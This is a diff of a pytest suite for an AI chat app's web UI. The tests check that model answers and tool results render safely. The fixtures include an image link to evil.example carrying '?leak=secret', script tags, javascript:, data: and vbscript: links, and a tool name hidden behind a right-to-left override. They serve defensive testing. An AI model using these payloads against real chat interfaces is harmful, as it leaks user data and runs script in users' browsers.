@@ -10,12 +10,12 @@ from pathlib import Path
 import pytest
 
 from agent_app.errors import ErrorKind
+from agent_app.invisible_chars import INVISIBLE_CHARACTERS
 from agent_app.orchestrator import ITERATION_LIMIT_MESSAGE
 from agent_app.storage import SqliteStorage
 from agent_app.types import ChatMessage, ToolCall
 from agent_app.ui.chat_errors import describe_chat_error
 from agent_app.ui.chat_panel import FOCUS_INPUT_SCRIPT, PROMPT_PLACEHOLDER
-from agent_app.ui.formatting import escape_markdown
 from agent_app.ui.live_status import CUT_TEXT_NOTE, QUEUED_LABEL, status_label
 from fake_llm import (
     CANARY_API_KEY,
@@ -30,17 +30,23 @@ from fake_llm import (
     transcription_reply,
 )
 from fake_llm.streams import StreamScript
+from tests.history_html import link_targets, parse, tags
 from tests.media_samples import make_video
 from tests.page_support import (
+    action_buttons,
     bubbles,
     card_labels,
+    cards,
     click,
     configure_env,
+    history_action,
+    history_elements,
     new_page,
     run_going,
     send,
     settle,
     shown,
+    statuses,
     texts,
 )
 
@@ -91,14 +97,16 @@ def test_tool_call_turn_shows_its_card_and_the_final_answer(
     )
     send(at, "What is said in the interview?")
     assert [role for role, _ in bubbles(at)] == ["user", "assistant"]
-    assert "They say: *welcome to the harbour*." in bubbles(at)[1][1]
+    assert "They say: welcome to the harbour." in bubbles(at)[1][1]
+    assert "They say: <em>welcome to the harbour</em>." in str(history_elements(at)[1]["html"])  # Markdown drawn
     labels = card_labels(at)
     assert len(labels) == 1 and "transcribe_video" in labels[0] and "done" in labels[0]
-    card = at.main.chat_message[1].expander[0]
-    shown = "\n".join(texts(card.markdown))
-    assert f"**assetId** {asset_id}" in shown  # the arguments, named, not raw JSON
-    assert "welcome to the harbour" in shown  # the result
-    assert not card.code and '{"' not in shown
+    [card] = cards(at)
+    assert card.state == "done" and card.notes == ["Arguments", "Result"]
+    arguments, result = card.fields
+    assert arguments == f"assetId {asset_id}" and f"<b>assetId</b> {asset_id}" in card.html  # named, not raw JSON
+    assert "welcome to the harbour" in result  # the result
+    assert not {"code", "pre"} & set(tags(card.html)) and '{"' not in arguments + result
     tool_message = fake_llm.chat.last.json["messages"][-1]
     assert tool_message["role"] == "tool" and tool_message["tool_call_id"] == "call_1"
 
@@ -111,8 +119,8 @@ def test_failed_tool_shows_the_error_in_its_card(data_dir: Path, fake_llm: FakeL
     at = send(new_page(), "Transcribe it")
     labels = card_labels(at)
     assert len(labels) == 1 and "failed" in labels[0]
-    card = at.main.chat_message[1].expander[0]
-    assert card.error and "no-such-asset" in shown(str(card.error[0].value))
+    [card] = cards(at)
+    assert card.state == "failed" and len(card.errors) == 1 and "no-such-asset" in card.errors[0]
     assert "I could not find that clip." in bubbles(at)[1][1]
 
 
@@ -287,14 +295,16 @@ def test_model_answer_cannot_load_external_images(data_dir: Path, fake_llm: Fake
     conversation without a click): they become links; HTML stays text; code blocks are untouched."""
     fake_llm.chat.push(openai_text(HOSTILE_ANSWER))
     at = send(new_page(), "Show me ![me](https://evil.example/u.png)")
-    markdown = [m for bubble in at.main.chat_message for m in bubble.markdown]
-    assert markdown and all(not m.proto.allow_html for m in markdown)
+    drawn = [str(bubble["html"]) for bubble in history_elements(at)]
+    assert drawn and not any({"img", "script"} & set(tags(html)) for html in drawn)  # no fetch, no script
     user, answer = (bubble for _, bubble in bubbles(at))
     assert user == "Show me ![me](https://evil.example/u.png)"  # the user's text as typed: neither image nor link
-    raw_user = str(at.main.chat_message[0].markdown[0].value)
-    assert "![" not in raw_user and "](" not in raw_user
-    assert "[chart](https://evil.example/p.png?leak=secret)" in answer and "![chart]" not in answer
-    assert "```md\n![kept](in-code.png)\n```" in answer
+    assert link_targets(drawn[0]) == [] and 'class="typed"' in drawn[0]
+    assert link_targets(drawn[1]) == ["https://evil.example/p.png?leak=secret"]  # the image, as a link; not js
+    assert [inside for tag, _, inside in parse(drawn[1]) if tag == "a"] == ["chart"] and "![chart]" not in answer
+    assert "<img src=https://evil.example/i.png> <script>alert(1)</script> [docs](javascript:alert(1))" in answer
+    assert [inside for tag, _, inside in parse(drawn[1]) if tag == "code"] == ["![kept](in-code.png)\n"]
+    assert '<code class="language-md">![kept](in-code.png)' in drawn[1]  # the code block, untouched
     assert stored_messages(data_dir, at.query_params["chat"])[1] == ("assistant", HOSTILE_ANSWER)  # stored as sent
 
 
@@ -387,8 +397,10 @@ def test_tool_error_quoting_the_model_is_shown_literally(data_dir: Path, fake_ll
         openai_tool_calls(tool_call("transcribe_video", {"assetId": hostile})), openai_text("No such clip.")
     )
     at = send(new_page(), "Transcribe it")
-    error = str(at.main.chat_message[1].expander[0].error[0].value)
-    assert escape_markdown(hostile) in error and hostile not in error
+    [card] = cards(at)
+    [error] = card.errors
+    assert hostile in error  # the characters as written
+    assert not {"img", "a"} & set(tags(card.html)) and link_targets(card.html) == []  # neither image nor link
 
 
 def test_two_tabs_see_the_same_live_run_and_then_its_answer(data_dir: Path, fake_llm: FakeLLMServer) -> None:
@@ -400,7 +412,7 @@ def test_two_tabs_see_the_same_live_run_and_then_its_answer(data_dir: Path, fake
     for tab in (tab_a, tab_b):
         assert run_going(tab)
         assert [text for _, text in bubbles(tab)][-2] == "Take your time"
-        labels = [status.label for status in tab.main.status]  # queued while a loaded machine's worker is busy
+        labels = statuses(tab)  # queued while a loaded machine's worker is busy
         assert "Asking the assistant…" in labels or QUEUED_LABEL in labels
         box = tab.chat_input(key="chat_prompt")
         assert not box.disabled and box.placeholder == PROMPT_PLACEHOLDER  # a send is refused by storage, kept
@@ -505,8 +517,8 @@ def test_streamed_text_shows_in_pieces_before_the_answer_is_complete(data_dir: P
     deadline = time.monotonic() + 30
     while run_going(at):
         assert time.monotonic() < deadline
-        live = at.main.chat_message[-1]
-        text = "\n".join(str(markdown.value) for markdown in live.markdown)
+        role, text = bubbles(at)[-1]  # the live turn
+        assert role == "assistant"
         if text and (not seen or text != seen[-1]):
             seen.append(text)
         time.sleep(0.1)
@@ -549,14 +561,14 @@ def test_the_chat_draws_loading_status_and_error_from_the_session_stores(
     at = new_page()
     at.chat_input(key="chat_prompt").set_value("Take your time").run()
     deadline = time.monotonic() + 30
-    while [box.label for box in at.main.status] == [QUEUED_LABEL]:  # not claimed yet (a loaded machine)
+    while statuses(at) == [QUEUED_LABEL]:  # not claimed yet (a loaded machine)
         assert time.monotonic() < deadline, "the run was never claimed"
         time.sleep(0.05)
         at.run()
     assert run_going(at)  # the answer takes a second once claimed: the page draws it running
     state = at.session_state
     assert state["chat.loading"] is True and not at.chat_input(key="chat_prompt").disabled
-    assert [box.label for box in at.main.status] == [status_label(state["agent.status"], state["agent.active_tool"])]
+    assert statuses(at) == [status_label(state["agent.status"], state["agent.active_tool"])]
     settle(at)
     assert (state["chat.loading"], state["agent.status"], state["agent.active_tool"]) == (False, "idle", None)
     assert not at.chat_input(key="chat_prompt").disabled
@@ -571,20 +583,17 @@ def test_the_chat_draws_loading_status_and_error_from_the_session_stores(
 def test_a_hostile_tool_name_and_data_links_are_shown_as_text(data_dir: Path, fake_llm: FakeLLMServer) -> None:
     """A tool name carrying a right-to-left override, NUL and ESC shows them as ``\\uXXXX`` in its card's
     label; a ``data:`` or ``vbscript:`` link in the answer is drawn as text, an https one stays a link."""
-    from markdown_it import MarkdownIt
-
     fake_llm.chat.push(
         openai_tool_calls(tool_call("evil\u202egnp.exe\x00\x1b[31m", {})),
         openai_text("[page](data:text/html,<b>x</b>) [vb](vbscript:msgbox) [docs](https://example.com/d)"),
     )
     at = send(new_page(), "Go")
     (label,) = card_labels(at)
-    assert label == "**evil\\u202egnp.exe\\u0000\\u001b[31m** · failed"  # the unknown tool fails
-    drawn = next(str(m.value) for m in at.main.chat_message[1].markdown if "vbscript" in str(m.value))
-    parser = MarkdownIt("commonmark")
-    parser.validateLink = lambda url: True  # type: ignore[method-assign]
-    links = [t.attrs["href"] for b in parser.parse(drawn) for t in b.children or [] if t.type == "link_open"]
-    assert links == ["https://example.com/d"]
+    assert label == "evil\\u202egnp.exe\\u0000\\u001b[31m · failed"  # the unknown tool fails
+    drawn = str(history_elements(at)[1]["html"])
+    assert not INVISIBLE_CHARACTERS.search(drawn)
+    assert link_targets(drawn) == ["https://example.com/d"]
+    assert "page vb docs" not in bubbles(at)[1][1] and "[page](data:text/html,<b>x</b>)" in bubbles(at)[1][1]
 
 
 def test_a_turn_of_a_thousand_tool_calls_draws_a_page_of_cards(
@@ -603,11 +612,14 @@ def test_a_turn_of_a_thousand_tool_calls_draws_a_page_of_cards(
     assert len(stored_messages(data_dir, at.query_params["chat"])) == 1 + 1 + 1000 + 1
     labels = card_labels(at)
     assert len(labels) == CARDS_SHOWN == MAX_CALLS_PER_ROUND
-    more = [b for b in at.main.button if str(b.key).startswith("chat_more_cards_")]
-    assert [b.label for b in more] == [f"Show {CARDS_PAGE} more of 990 hidden tool calls"]
+    more = action_buttons(at, "more_cards")
+    assert [(b.label, b.enabled) for b in more] == [(f"Show {CARDS_PAGE} more of 990 hidden tool calls", True)]
     assert bubbles(at)[-1][1] == "I asked for too much."
-    more[0].click().run()
+    history_action(at, "more_cards", "no-such-message")  # a target the page did not offer does nothing
+    assert len(card_labels(at)) == CARDS_SHOWN
+    history_action(at, "more_cards", more[0].target)
     assert len(card_labels(at)) == CARDS_SHOWN + CARDS_PAGE
+    assert [b.label for b in action_buttons(at, "more_cards")] == [f"Show {CARDS_PAGE} more of 940 hidden tool calls"]
     reopened = new_page(dict(at.query_params))
     reopened.run()
     assert len(card_labels(reopened)) == CARDS_SHOWN  # a new session starts from the first page again
